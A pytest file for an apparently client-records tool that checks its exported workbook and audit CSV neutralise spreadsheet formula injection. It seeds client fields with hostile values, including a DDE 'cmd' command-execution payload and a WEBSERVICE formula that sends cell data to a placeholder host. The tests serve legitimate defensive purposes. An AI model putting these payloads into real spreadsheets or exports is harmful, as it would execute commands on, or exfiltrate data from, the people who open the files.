"""Text that looks like a formula stays text: in the exported workbook and in the audit CSV.

A name such as `=HYPERLINK("http://x","y")` written by openpyxl's type inference becomes a
live formula (a clickable link in LibreOffice) and the export no longer imports back; a
CSV field starting with `=`, `+`, `-`, `@`, a tab or a carriage return is evaluated by a
spreadsheet that opens the file.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

from reviewdesk.book.db import open_book
from reviewdesk.book.enums import Channel, Relation
from reviewdesk.book.models import Client, Contact, FamilyMember
from reviewdesk.cli import main
from reviewdesk.exchange import export_workbook, import_files
from reviewdesk.exchange.schema import SHEETS
from tests import factories as f
from tests.conftest import PASSPHRASE
from tests.exchange.content import book_content

LINK = '=HYPERLINK("http://x","y")'
HOSTILE = {
    "name": LINK,
    "special_notes": "+1 call",
    "occupation": "-5%",
    "hobbies": "@sum",
    "employer": "#N/A",  # openpyxl would write this one as an error value
    "address": "=1+1",
}


def _hostile_book(path):
    book = open_book(str(path), passphrase=PASSPHRASE)
    with book.session() as s:
        client = f.client(
            "C1",
            HOSTILE["name"],
            **{k: v for k, v in HOSTILE.items() if k != "name"},
            snapshots=[f.snapshot(dt.date(2026, 5, 31), f.holding("=SUM(A1:A9)"))],
        )
        client.set_tags(["=tag"])
        client.family.append(FamilyMember(name="=cmd|' /C calc'!A0", relation=Relation.SPOUSE))
        s.add(client)
        s.flush()
        s.add(
            Contact(
                client_id=client.id,
                contact_date=dt.date(2026, 6, 1),
                channel=Channel.PHONE,
                summary='=WEBSERVICE("http://x/"&A2)',
                next_step="-2+3",
            )
        )
    return book


def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back(tmp_path):
    book = _hostile_book(tmp_path / "book.sqlite")
    target = None
    try:
        path = tmp_path / "out.xlsx"
        with book.session() as s:
            export_workbook(s, path, lang="en")
        with zipfile.ZipFile(path) as z:
            sheets = {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}
            styles = z.read("xl/styles.xml").decode()
        assert len(sheets) == len(SHEETS)  # every sheet of the book, each checked
        texts = []
        for name, xml in sheets.items():
            assert "<f>" not in xml and "<f " not in xml, name  # no formula anywhere
            assert 't="e"' not in xml, name  # nor an error value
            for attrs, text in re.findall(r"<c ([^>]*)><is><t[^>]*>([^<]*)</t></is></c>", xml):
                texts.append((attrs, text.replace("&amp;", "&").replace("&quot;", '"')))
        hostile = [
            LINK,
            "+1 call",
            "-5%",
            "@sum",
            "#N/A",
            "=1+1",
            "=SUM(A1:A9)",
            "=tag",
            "=cmd|' /C calc'!A0",
            '=WEBSERVICE("http://x/"&A2)',
            "-2+3",
        ]
        written = {text: attrs for attrs, text in texts}
        for value in hostile:
            assert value in written, value
            assert 't="inlineStr"' in written[value], (value, written[value])
        # Cells that openpyxl would have made a formula or an error carry Excel's quote
        # prefix, so editing them in a spreadsheet keeps them text.
        prefixed = re.findall(r"<xf [^>]*quotePrefix=\"1\"", styles)
        assert prefixed
        # ... and the workbook imports back to the same book.
        target = open_book(str(tmp_path / "copy.sqlite"), passphrase=PASSPHRASE)
        report = import_files(target, [path])
        assert report.problems == [], report.problems[:3]
        original, copy = book_content(book), book_content(target)
        for table in original:
            assert copy[table] == original[table], table
        with target.session() as s:
            client = s.query(Client).one()
            assert client.name == LINK
            assert (client.special_notes, client.occupation, client.hobbies) == (
                "+1 call",
                "-5%",
                "@sum",
            )
    finally:
        book.close()
        if target is not None:
            target.close()


def test_the_audit_csv_quotes_every_field_a_spreadsheet_would_evaluate(
    tmp_path, passphrase_env, capsys
):
    path = tmp_path / "book.sqlite"
    book = open_book(str(path), passphrase=PASSPHRASE)
    with book.session() as s:
        s.add(f.client("C1", "Plain Name"))
    with book.session() as s:
        client = s.query(Client).one()
        client.name = LINK
        client.special_notes = "+1 call"
        client.occupation = "-5%"
        client.hobbies = "\tcalc"  # a note may hold a tab; a plain field may not
        client.employer = "@sum"
        client.address = "=1+1"
    book.close()

    assert main(["--db", str(path), "audit", "C1", "--csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    changed = {r["field"]: r["new_value"] for r in rows if r["action"] == "update"}
    assert changed["name"] == "'" + LINK
    assert changed["special_notes"] == "'+1 call"
    assert changed["occupation"] == "'-5%"
    assert changed["hobbies"] == "'\tcalc"
    assert changed["employer"] == "'@sum"
    assert changed["address"] == "'=1+1"
    # No field of any row starts as a formula would.
    for row in csv.reader(io.StringIO(out)):
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), (row, field)
    # Ordinary values are left as they are.
    assert {r["actor"] for r in rows} and all(not r["actor"].startswith("'") for r in rows)
